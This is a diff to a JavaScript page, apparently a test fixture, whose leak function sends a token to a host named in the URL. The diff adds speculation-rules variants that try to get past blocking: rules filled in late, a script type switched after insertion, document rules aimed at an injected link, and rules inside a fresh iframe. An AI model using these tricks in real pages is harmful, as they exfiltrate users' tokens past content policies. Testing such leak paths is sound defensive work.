@@ -5,6 +5,13 @@ const params = new URLSearchParams(location.search);
 const to = params.get("to");
 const via = params.get("via");
 
+// A fresh same-origin about:blank frame's document (no document-start script runs in one).
+function frameDocument() {
+  const frame = document.createElement("iframe");
+  document.body.append(frame);
+  return frame.contentDocument;
+}
+
 function leak(token) {
   const url = (path) => to + path + "?via=" + via + "&token=" + encodeURIComponent(token);
   const add = (html) => document.body.insertAdjacentHTML("beforeend", html);
@@ -43,14 +50,38 @@ function leak(token) {
       add(`<link rel="prefetch" href="${url("/leak")}">`);
       break;
     case "prerender":
-    case "speculation-prefetch": {
+    case "speculation-prefetch":
+    case "speculation-late-text":
+    case "speculation-type-change":
+    case "speculation-document-rules":
+    case "speculation-frame": {
       // A same-origin URL, which redirects to the other host.
       const hop = "/__redirect?to=" + encodeURIComponent(url("/leak"));
-      const rules = document.createElement("script");
-      rules.type = "speculationrules";
       const kind = via === "prerender" ? "prerender" : "prefetch";
-      rules.textContent = JSON.stringify({ [kind]: [{ source: "list", urls: [hop] }] });
-      document.head.append(rules);
+      let rules = { [kind]: [{ source: "list", urls: [hop] }] };
+      if (via === "speculation-document-rules") {
+        add(`<a href="${hop}">next</a>`);
+        rules = { prefetch: [{ where: { selector_matches: "a" }, eagerness: "immediate" }] };
+      }
+      const text = JSON.stringify(rules);
+      const where = via === "speculation-frame" ? frameDocument() : document;
+      const script = where.createElement("script");
+      if (via === "speculation-type-change") {
+        // Inserted as inert text, made rules afterwards.
+        script.type = "text/plain";
+        script.textContent = text;
+        where.head.append(script);
+        script.type = "speculationrules";
+      } else if (via === "speculation-late-text") {
+        // Inserted empty, filled afterwards.
+        script.type = "speculationrules";
+        where.head.append(script);
+        script.textContent = text;
+      } else {
+        script.type = "speculationrules";
+        script.textContent = text;
+        where.head.append(script);
+      }
       break;
     }
     case "worker":
